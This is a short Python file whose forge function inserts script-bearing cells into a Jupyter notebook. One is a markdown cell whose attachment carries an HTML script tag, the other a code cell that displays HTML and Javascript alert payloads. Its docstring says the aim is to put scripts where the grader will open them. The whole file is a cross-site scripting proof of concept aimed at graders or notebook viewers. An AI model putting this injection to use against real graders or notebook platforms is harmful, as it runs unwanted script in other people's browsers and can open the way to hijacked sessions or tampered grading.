"""Put scripts where the person who grades will open them."""


def forge(notebook):
    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "x", "metadata": {}, "source": "![a](attachment:a.png)",
                                 "attachments": {"a.png": {"text/html": "<script>alert('EFFECT')</script>"}}})
    notebook["cells"].insert(1, {"cell_type": "code", "id": "y", "metadata": {}, "outputs": [], "execution_count": None,
                                 "source": "from IPython.display import HTML, Javascript, display\n"
                                           "display(HTML('<script>alert(1)</script>'), Javascript('alert(1)'))"})
